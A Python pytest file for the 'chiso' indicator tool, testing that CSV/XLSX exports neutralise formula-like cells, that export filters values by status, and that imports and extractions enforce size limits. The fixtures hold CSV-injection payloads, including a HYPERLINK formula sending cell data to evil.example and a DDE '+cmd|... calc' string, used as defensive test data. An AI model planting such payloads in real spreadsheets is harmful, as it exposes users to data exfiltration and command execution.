"""Issue 11, files in and out: formula-like cells neutralised in every CSV/XLSX chiso writes (and restored on
import), ``chiso export --status``, and the limits on imports and on the text of a report read back."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from chiso import app as core
from chiso.catalogue.records import ValueInput
from chiso.cli.main import app as cli
from chiso.errors import ImportFileError, WorkspaceError
from chiso.ingest import files
from chiso.ingest.files import read_value_rows, unneutralise
from chiso.report.exports import export_csv, export_sdmx_csv, neutralise
from chiso.web.downloads import Column, DataTable, to_csv, to_xlsx
from web_support import MakeClient

RATE = "dossier_full_online_rate"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
FORMULAS = [LINK, "+1+2", "-2+3 so với kỳ trước", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=1+1", "''@x"]
runner = CliRunner()


@pytest.fixture(autouse=True)
def _language_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    """``--lang en`` sets CHISO_LANG for the process: put it back after each test."""
    monkeypatch.setenv("CHISO_LANG", "vi")  # recorded, so undone after the test whatever the CLI set


@pytest.fixture
def ws(tmp_path: Path) -> Iterator[core.Workspace]:
    w = core.init_workspace(tmp_path / "ws", f"sqlite:///{tmp_path / 'store.sqlite'}")
    yield w
    w.close()


def chiso(ws: core.Workspace, *args: str) -> tuple[int, str, str]:
    res = runner.invoke(cli, ["--workspace", str(ws.root), "--lang", "en", "--as", "tester", *args])
    return res.exit_code, res.stdout, res.stderr


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


# --- 1. formula-like cells --------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_like_text_gets_a_quote_and_reads_back(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", ["", "Báo cáo số 12", "'quoted", "45,8", "a=b", "2024-04"])
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text and unneutralise(text) == text


def test_chiso_csv_export_neutralises_text_keeps_numbers_and_imports_back(tmp_path: Path) -> None:
    from test_exports import stored

    values = [
        stored(1, RATE, "P48", "2024", -5.5, comment=LINK, source="+cmd|' /C calc'!A0", qualifier="@gần"),
        stored(2, RATE, "P01", "2024", 12.0, comment="-", source="doc"),
    ]
    text = export_csv(values)
    rows = {r[1]: dict(zip(rows_header := csv_rows(text)[0], r, strict=True)) for r in csv_rows(text)[1:]}
    assert rows_header[0] == "code"
    p48 = rows["P48"]
    assert p48["comment"] == "'" + LINK and p48["source"] == "'+cmd|' /C calc'!A0" and p48["qualifier"] == "'@gần"
    assert p48["value"] == "-5.5"  # a number stays a number
    assert rows["P01"]["comment"] == "'-"
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    _, raw = read_value_rows(path)
    back = {r.fields["unit"]: r.fields for r in raw}
    assert back["P48"]["comment"] == LINK and back["P48"]["source"] == "+cmd|' /C calc'!A0"
    assert back["P48"]["qualifier"] == "@gần" and back["P48"]["value"] == "-5.5" and back["P01"]["comment"] == "-"


def test_sdmx_csv_neutralises_source_and_comment() -> None:
    from test_exports import stored

    text = export_sdmx_csv([stored(1, RATE, "P48", "2024", 61.2, comment=LINK, source="@doc")])
    row = csv_rows(text)[1]
    assert row[-2:] == ["'@doc", "'" + LINK] and row[6] == "61.2"


def test_an_export_with_formula_like_text_imports_back_unchanged(ws: core.Workspace, tmp_path: Path) -> None:
    """The whole road: stored text → chiso export (CSV) → chiso import → the same text, nothing changed."""
    ws.store.write_values(
        [ValueInput(indicator=RATE, unit="P48", period="2024", value=61.2, comment=LINK, source="=doc")], actor="seed"
    )
    out = tmp_path / "export.csv"
    rc, _, err = chiso(ws, "export", "--format", "csv", "-o", str(out))
    assert rc == 0, err
    assert "'" + LINK.replace('"', '""') in out.read_text(encoding="utf-8")
    res = core.import_file(ws, out, actor="again")
    assert (res.written.inserted, res.written.updated, res.written.unchanged) == (0, 0, 1)
    (v,) = ws.store.values()
    assert (v.comment, v.source) == (LINK, "=doc")


def test_an_xlsx_cell_with_a_quote_imports_as_its_text(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    sheet = wb.active
    sheet.append(["code", "unit", "period", "value", "comment"])
    sheet.append([RATE, "P48", "2024", -3, "'" + LINK])
    wb.save(tmp_path / "v.xlsx")
    _, (row,) = read_value_rows(tmp_path / "v.xlsx")
    assert row.fields["comment"] == LINK and row.fields["value"] == "-3"


def test_the_rejects_file_neutralises_what_the_user_wrote(ws: core.Workspace, tmp_path: Path) -> None:
    f = tmp_path / "bad.csv"
    f.write_text(f'code,unit,period,value,comment\n{RATE},P48,2024,abc,"{LINK.replace(chr(34), chr(34) * 2)}"\n',
                 encoding="utf-8")
    res = core.import_file(ws, f, actor="t", keep_good=True)
    assert res.rejects_file is not None
    (head, row) = csv_rows(res.rejects_file.read_text(encoding="utf-8"))
    assert dict(zip(head, row, strict=True))["comment"] == "'" + LINK


def _table() -> DataTable:
    return DataTable("t", "web.table.summary", [Column(text="name"), Column(text="value"), Column(text="=x")],
                     [["=1+2", -3, "@SUM(A1)"], ["Đà Nẵng", 4.5, None]])


def test_web_csv_download_neutralises_text_not_numbers() -> None:
    rows = csv_rows(to_csv(_table(), "vi").decode("utf-8"))
    assert rows == [["name", "value", "'=x"], ["'=1+2", "-3", "'@SUM(A1)"], ["Đà Nẵng", "4.5", ""]]


def test_web_xlsx_download_has_no_formula() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(_table(), "vi")))
    sheet = book.active
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    assert cells[0][2] == ("'=x", "s")
    assert cells[1] == [("'=1+2", "s"), (-3, "n"), ("'@SUM(A1)", "s")]
    assert cells[2][:2] == [("Đà Nẵng", "s"), (4.5, "n")]


# --- 2. chiso export --status -----------------------------------------------------------------------------------


@pytest.fixture
def with_draft(ws: core.Workspace) -> core.Workspace:
    ws.store.write_values([ValueInput(indicator=RATE, unit="P48", period="2024", value=61.2)], actor="a")
    ws.store.write_values([ValueInput(indicator=RATE, unit="P01", period="2024", value=40.0)], actor="a",
                          status="draft")
    ws.store.write_values([ValueInput(indicator=RATE, unit="P02", period="2024", value=41.0)], actor="a",
                          status="returned")
    return ws


def test_export_is_of_published_values_by_default_and_says_so(with_draft: core.Workspace) -> None:
    rc, out, err = chiso(with_draft, "export", "--format", "csv")
    assert rc == 0, err
    rows = csv_rows(out)
    status = rows[0].index("status")
    assert [(r[1], r[status]) for r in rows[1:]] == [("P48", "approved")]
    assert "Only approved (published) values" in err and "--status all" in err
    rc, out, err = chiso(with_draft, "export", "--format", "json")
    assert [d["orgUnit"] for d in json.loads(out)["dataValues"]] == ["P48"]


def test_export_status_all_includes_drafts_and_returned_with_their_status(
    with_draft: core.Workspace, tmp_path: Path
) -> None:
    out_file = tmp_path / "all.csv"
    rc, out, err = chiso(with_draft, "export", "--format", "csv", "--status", "all", "-o", str(out_file))
    assert rc == 0, err
    assert "All values are exported" in out
    rows = csv_rows(out_file.read_text(encoding="utf-8"))
    status = rows[0].index("status")
    assert sorted((r[1], r[status]) for r in rows[1:]) == [("P01", "draft"), ("P02", "returned"), ("P48", "approved")]


def test_export_refuses_an_unknown_status(with_draft: core.Workspace) -> None:
    rc, _, err = chiso(with_draft, "export", "--status", "drafts")
    assert rc != 0 and "unknown status 'drafts'" in err


# --- 3. limits ---------------------------------------------------------------------------------------------------


def set_limits(ws: core.Workspace, **limits: int) -> None:
    path = ws.root / core.SETTINGS
    lines = "".join(f"{k} = {v}\n" for k, v in limits.items())
    path.write_text(path.read_text(encoding="utf-8") + f"\n[limits]\n{lines}", encoding="utf-8")


def csv_of(n: int) -> str:
    return "code,unit,period,value\n" + f"{RATE},P48,2024,1\n" * n


def test_limits_default_and_come_from_the_settings_then_the_environment(
    ws: core.Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert ws.limits == core.Limits(20 * 1024 * 1024, 100_000, 2_000_000)
    set_limits(ws, import_rows=50, extract_chars=1_000)
    assert (ws.limits.import_rows, ws.limits.extract_chars, ws.limits.import_bytes) == (50, 1_000, 20 * 1024 * 1024)
    monkeypatch.setenv("CHISO_LIMIT_IMPORT_ROWS", "70")
    assert ws.limits.import_rows == 70
    monkeypatch.setenv("CHISO_LIMIT_IMPORT_BYTES", "lots")
    with pytest.raises(WorkspaceError, match=r"CHISO_LIMIT_IMPORT_BYTES.*import_bytes = 'lots'"):
        ws.limits  # noqa: B018


def test_a_file_over_the_byte_limit_is_refused_before_it_is_read(
    ws: core.Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    set_limits(ws, import_bytes=1000)
    for name in ("big.csv", "big.xlsx", "big.json"):
        path = tmp_path / name
        path.write_bytes(b"x" * 1001)

        def never(*_: object) -> None:
            raise AssertionError("read before the size was looked at")

        for reader in ("_read_csv", "_read_xlsx", "_read_datavaluesets"):
            monkeypatch.setattr(files, reader, never)
        with pytest.raises(ImportFileError) as info:
            core.import_file(ws, path, actor="t")
        text = str(info.value)
        assert text.startswith(str(path)) and "import_bytes" in text and "CHISO_LIMIT_IMPORT_BYTES" in text
        assert "1001 B" in text and "1000 B" in text  # the size and the limit


def test_a_csv_over_the_default_row_limit_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    path.write_text(csv_of(100_001), encoding="utf-8")
    with pytest.raises(ImportFileError, match=r"100.000 .*import_rows.*CHISO_LIMIT_IMPORT_ROWS"):
        read_value_rows(path)
    path.write_text(csv_of(100_000), encoding="utf-8")
    assert len(read_value_rows(path)[1]) == 100_000


def test_the_row_limit_is_a_setting_and_the_cli_says_it(ws: core.Workspace, tmp_path: Path) -> None:
    set_limits(ws, import_rows=10)
    path = tmp_path / "eleven.csv"
    path.write_text(csv_of(11), encoding="utf-8")
    rc, _, err = chiso(ws, "import", str(path))
    assert rc != 0 and "eleven.csv" in err and "more than 10 rows" in err and "import_rows" in err
    assert ws.store.values() == []
    path.write_text(csv_of(10).replace(",P48,", ",P4{},"), encoding="utf-8")  # ten rows: read (the units are bad)
    assert len(read_value_rows(path, max_rows=10)[1]) == 10


def _with_dimension(path: Path, ref: str) -> Path:
    """The workbook with its first sheet's declared dimension changed (cheap: only the XML is rewritten)."""
    data = io.BytesIO()
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(data, "w") as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="' + ref.encode() + b'"', body)
                assert ref.encode() in body
            dst.writestr(item, body)
    path.write_bytes(data.getvalue())
    return path


def _workbook(path: Path, n: int) -> Path:
    wb = openpyxl.Workbook()
    sheet = wb.active
    sheet.append(["code", "unit", "period", "value"])
    for _ in range(n):
        sheet.append([RATE, "P48", "2024", 1])
    wb.save(path)
    return path


def test_an_xlsx_declaring_too_many_rows_is_refused_before_its_rows_are_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _with_dimension(_workbook(tmp_path / "big.xlsx", 3), "A1:D300000")  # 300k rows declared, 3 written

    def never(*_: object, **__: object) -> None:
        raise AssertionError("rows read")

    from openpyxl.worksheet._read_only import ReadOnlyWorksheet

    monkeypatch.setattr(ReadOnlyWorksheet, "_cells_by_row", never)
    with pytest.raises(ImportFileError, match=r"big\.xlsx \(sheet 'Sheet'\): .*100.000.*import_rows"):
        read_value_rows(path)


def test_an_xlsx_that_declares_too_few_rows_is_still_read_whole_and_counted(tmp_path: Path) -> None:
    path = _with_dimension(_workbook(tmp_path / "lies.xlsx", 20), "A1")
    assert len(read_value_rows(path, max_rows=20)[1]) == 20  # not cut at the declared A1
    with pytest.raises(ImportFileError, match="import_rows"):
        read_value_rows(path, max_rows=19)


def test_a_datavaluesets_document_over_the_row_limit_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "dvs.json"
    items = [{"dataElement": RATE, "orgUnit": "P48", "period": "2024", "value": "1"}] * 11
    path.write_text(json.dumps({"dataValues": items}), encoding="utf-8")
    with pytest.raises(ImportFileError, match="import_rows"):
        read_value_rows(path, max_rows=10)
    assert len(read_value_rows(path, max_rows=11)[1]) == 11


REPORT = "Kết quả chuyển đổi số quốc gia tháng 4/2024\nTỷ lệ hồ sơ trực tuyến toàn trình đạt 45,8%.\n"


def test_chiso_extract_refuses_a_text_over_the_limit(ws: core.Workspace, tmp_path: Path) -> None:
    path = tmp_path / "report.txt"
    path.write_text(REPORT + "x" * 200, encoding="utf-8")
    set_limits(ws, extract_chars=200)
    rc, _, err = chiso(ws, "extract", str(path), "--json")
    assert rc != 0 and "report.txt" in err and "200 characters" in err and "extract_chars" in err
    path.write_text(REPORT, encoding="utf-8")
    rc, out, err = chiso(ws, "extract", str(path), "--json")
    assert rc == 0, err
    assert json.loads(out)[0]["code"] == RATE


def test_chiso_extract_refuses_a_big_file_before_reading_it(
    ws: core.Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "huge.txt"
    path.write_bytes(b"x" * 801)  # more than 4 bytes for each of 200 characters
    set_limits(ws, extract_chars=200)
    monkeypatch.setattr("chiso.cli.extract.read_document", lambda *_: pytest.fail("read"))
    rc, _, err = chiso(ws, "extract", str(path), "--json")
    assert rc != 0 and "huge.txt" in err and "extract_chars" in err


@pytest.mark.usefixtures("cheap_hashes")
def test_the_web_refuses_a_pasted_or_uploaded_text_over_the_limit(ws: core.Workspace, make_client: MakeClient) -> None:
    ws.store.users.create("rev", "Người duyệt", "mật-khẩu-đủ-dài", "reviewer", "VN")
    set_limits(ws, extract_chars=200)
    c = make_client(ws, user="rev", follow_redirects=False)
    long = REPORT + "x" * 200
    res = c.post("/extract?lang=en", data={"csrf": c.csrf, "text": long})
    assert res.status_code == 400 and "data-proposal" not in res.text
    assert "pasted.txt: the text is longer than the limit of 200 characters" in res.text
    assert "extract_chars" in res.text and "x" * 200 not in res.text  # the text is not sent back
    files_ = {"file": ("r.txt", long.encode(), "text/plain")}
    res = c.post("/extract?lang=en", data={"csrf": c.csrf}, files=files_)
    assert res.status_code == 400 and "r.txt: the text is longer" in res.text
    # accepting carries the text again: it is looked at again
    res = c.post("/extract/accept?lang=en", data={"csrf": c.csrf, "text": long, "name": "pasted.txt", "pick": "0"})
    assert res.status_code == 400 and "extract_chars" in res.text and ws.store.values() == []
    res = c.post("/extract?lang=en", data={"csrf": c.csrf, "text": REPORT})
    assert res.status_code == 200 and "data-proposal" in res.text
    # a big upload is read no further than the limit allows
    files_ = {"file": ("big.txt", b"x" * (5 * 1024 * 1024 + 1), "text/plain")}
    res = c.post("/extract?lang=en", data={"csrf": c.csrf}, files=files_)
    assert res.status_code == 400 and "big.txt: the text is longer than the limit of 200" in res.text
    # a form field bigger than any allowed text is stopped by the form parser, and said the same way
    files_ = {"file": ("r.txt", REPORT.encode(), "text/plain")}
    res = c.post("/extract?lang=en", data={"csrf": c.csrf, "text": "x" * (5 * 1024 * 1024 + 1)}, files=files_)
    assert res.status_code == 413 and "The form: the text is longer than the limit of 200" in res.text
